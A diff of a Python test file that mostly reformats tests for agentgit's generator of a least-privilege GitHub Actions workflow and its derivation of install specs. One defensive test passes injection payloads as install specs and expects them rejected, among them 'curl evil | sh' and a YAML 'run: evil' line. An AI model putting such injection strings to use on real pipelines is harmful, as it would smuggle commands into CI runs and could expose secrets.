@@ -27,8 +27,9 @@ def run_lines(text: str) -> list[str]:
             indent, rest = len(match.group(1)), match.group(2)
             if rest.strip() in ("|", ">", "|-", ">-"):
                 i += 1
-                while i < len(lines) and (not lines[i].strip()
-                                          or len(lines[i]) - len(lines[i].lstrip()) > indent):
+                while i < len(lines) and (
+                    not lines[i].strip() or len(lines[i]) - len(lines[i].lstrip()) > indent
+                ):
                     out.append(lines[i])
                     i += 1
                 continue
@@ -46,8 +47,15 @@ def test_init_ci_writes_a_valid_least_privilege_workflow(tmp_path: Path) -> None
     # Committed with the skeleton.
     assert WORKFLOW_PATH in git(repo, "ls-tree", "-r", "--name-only", "main")
     checked = subprocess.run(
-        [str(Path(sys.executable).parent / "check-jsonschema"), "--builtin-schema",
-         "vendor.github-workflows", str(workflow)], capture_output=True, text=True)
+        [
+            str(Path(sys.executable).parent / "check-jsonschema"),
+            "--builtin-schema",
+            "vendor.github-workflows",
+            str(workflow),
+        ],
+        capture_output=True,
+        text=True,
+    )
     assert checked.returncode == 0, checked.stdout + checked.stderr
 
     assert "schedule:" in text and "workflow_dispatch:" in text
@@ -55,7 +63,9 @@ def test_init_ci_writes_a_valid_least_privilege_workflow(tmp_path: Path) -> None
     assert "cancel-in-progress: false" in text
     permissions = text.split("permissions:\n", 1)[1].split("\n\n", 1)[0]
     assert sorted(line.strip() for line in permissions.splitlines()) == [
-        "contents: write", "pull-requests: write"]
+        "contents: write",
+        "pull-requests: write",
+    ]
     assert re.search(r"timeout-minutes: \d+", text)
     assert "fetch-depth: 0" in text
     assert 'python-version: "3.11"' in text
@@ -66,7 +76,8 @@ def test_init_ci_writes_a_valid_least_privilege_workflow(tmp_path: Path) -> None
         f"warning: The workflow installs agentgit=={__version__} from the package index, but "
         "this agentgit came from an editable checkout (file://"
         f"{Path(__file__).resolve().parents[1]}), which a runner cannot reach: pass "
-        "--install SPEC (a pip argument, e.g. git+https://github.com/OWNER/agentgit@COMMIT)"]
+        "--install SPEC (a pip argument, e.g. git+https://github.com/OWNER/agentgit@COMMIT)"
+    ]
     assert "git config user.name" in text and "git config user.email" in text
     assert "ANTHROPIC_API_KEY: ${{ secrets.ANTHROPIC_API_KEY }}" in text
     assert "GITHUB_TOKEN: ${{ github.token }}" in text
@@ -118,13 +129,16 @@ def test_init_ci_writes_the_install_spec_it_is_given_verbatim(tmp_path: Path) ->
     assert git(tmp_path / "corpus", "show", f"main:{WORKFLOW_PATH}") == text
 
 
-@pytest.mark.parametrize("args", [
-    ["--ci", "github", "--install", ""],
-    ["--ci", "github", "--install", "agentgit'; curl evil | sh; '"],
-    ["--ci", "github", "--install", "${{ secrets.ANTHROPIC_API_KEY }}"],
-    ["--ci", "github", "--install", "agentgit\nrun: evil"],
-    ["--install", "agentgit==0.1.0"],  # without --ci it has nowhere to go
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["--ci", "github", "--install", ""],
+        ["--ci", "github", "--install", "agentgit'; curl evil | sh; '"],
+        ["--ci", "github", "--install", "${{ secrets.ANTHROPIC_API_KEY }}"],
+        ["--ci", "github", "--install", "agentgit\nrun: evil"],
+        ["--install", "agentgit==0.1.0"],  # without --ci it has nowhere to go
+    ],
+)
 def test_a_bad_install_spec_is_usage_and_writes_nothing(tmp_path: Path, args: list[str]) -> None:
     proc = agentgit(tmp_path, "init", "corpus", *args)
     assert proc.returncode == 2, proc.stderr
@@ -136,38 +150,76 @@ def _direct_url(**data: object) -> str:
     return json.dumps(data)
 
 
-@pytest.mark.parametrize("direct_url, spec, says", [
-    # PEP 610's own shapes: a VCS install, one from a subdirectory, an archive by URL.
-    (_direct_url(url="https://github.com/me/agentgit.git",
-                 vcs_info={"vcs": "git", "commit_id": SHA, "requested_revision": "main"}),
-     f"git+https://github.com/me/agentgit.git@{SHA}", False),
-    (_direct_url(url="ssh://git@github.com/me/mono.git", subdirectory="agentgit",
-                 vcs_info={"vcs": "git", "commit_id": SHA}),
-     f"git+ssh://git@github.com/me/mono.git@{SHA}#subdirectory=agentgit", False),
-    (_direct_url(url="https://example.invalid/agentgit-0.1.0-py3-none-any.whl",
-                 archive_info={"hashes": {"sha256": "00"}}),
-     "agentgit @ https://example.invalid/agentgit-0.1.0-py3-none-any.whl", False),
-    # What no runner can reach: the index version, and a line saying so.
-    (_direct_url(url="file:///home/me/agentgit", dir_info={"editable": True}),
-     f"agentgit=={__version__}", True),
-    (_direct_url(url="file:///home/me/agentgit", dir_info={}), f"agentgit=={__version__}", True),
-    (_direct_url(url="file:///tmp/agentgit-0.1.0-py3-none-any.whl", archive_info={}),
-     f"agentgit=={__version__}", True),
-    (_direct_url(url="file:///home/me/agentgit", vcs_info={"vcs": "git", "commit_id": SHA}),
-     f"agentgit=={__version__}", True),
-    ("{not json", f"agentgit=={__version__}", True),
-    (_direct_url(url="https://me:s3cret@git.example.invalid/agentgit.git",
-                 vcs_info={"vcs": "git", "commit_id": SHA}), f"agentgit=={__version__}", True),
-    # Installed from an index: that index has it.
-    (None, f"agentgit=={__version__}", False),
-])
+@pytest.mark.parametrize(
+    "direct_url, spec, says",
+    [
+        # PEP 610's own shapes: a VCS install, one from a subdirectory, an archive by URL.
+        (
+            _direct_url(
+                url="https://github.com/me/agentgit.git",
+                vcs_info={"vcs": "git", "commit_id": SHA, "requested_revision": "main"},
+            ),
+            f"git+https://github.com/me/agentgit.git@{SHA}",
+            False,
+        ),
+        (
+            _direct_url(
+                url="ssh://git@github.com/me/mono.git",
+                subdirectory="agentgit",
+                vcs_info={"vcs": "git", "commit_id": SHA},
+            ),
+            f"git+ssh://git@github.com/me/mono.git@{SHA}#subdirectory=agentgit",
+            False,
+        ),
+        (
+            _direct_url(
+                url="https://example.invalid/agentgit-0.1.0-py3-none-any.whl",
+                archive_info={"hashes": {"sha256": "00"}},
+            ),
+            "agentgit @ https://example.invalid/agentgit-0.1.0-py3-none-any.whl",
+            False,
+        ),
+        # What no runner can reach: the index version, and a line saying so.
+        (
+            _direct_url(url="file:///home/me/agentgit", dir_info={"editable": True}),
+            f"agentgit=={__version__}",
+            True,
+        ),
+        (
+            _direct_url(url="file:///home/me/agentgit", dir_info={}),
+            f"agentgit=={__version__}",
+            True,
+        ),
+        (
+            _direct_url(url="file:///tmp/agentgit-0.1.0-py3-none-any.whl", archive_info={}),
+            f"agentgit=={__version__}",
+            True,
+        ),
+        (
+            _direct_url(url="file:///home/me/agentgit", vcs_info={"vcs": "git", "commit_id": SHA}),
+            f"agentgit=={__version__}",
+            True,
+        ),
+        ("{not json", f"agentgit=={__version__}", True),
+        (
+            _direct_url(
+                url="https://me:s3cret@git.example.invalid/agentgit.git",
+                vcs_info={"vcs": "git", "commit_id": SHA},
+            ),
+            f"agentgit=={__version__}",
+            True,
+        ),
+        # Installed from an index: that index has it.
+        (None, f"agentgit=={__version__}", False),
+    ],
+)
 def test_the_default_install_follows_how_this_copy_was_installed(
-        direct_url: str | None, spec: str, says: bool) -> None:
+    direct_url: str | None, spec: str, says: bool
+) -> None:
     found = install_from(direct_url)
     assert found.spec == spec
     assert (found.note is not None) == says
     if says:
         assert "--install" in (found.note or "") and "\n" not in (found.note or "")
-    assert install_step(render_workflow(install=found.spec)) == (
-        f"python -m pip install '{spec}'")
+    assert install_step(render_workflow(install=found.spec)) == (f"python -m pip install '{spec}'")
     assert Install(spec).note is None
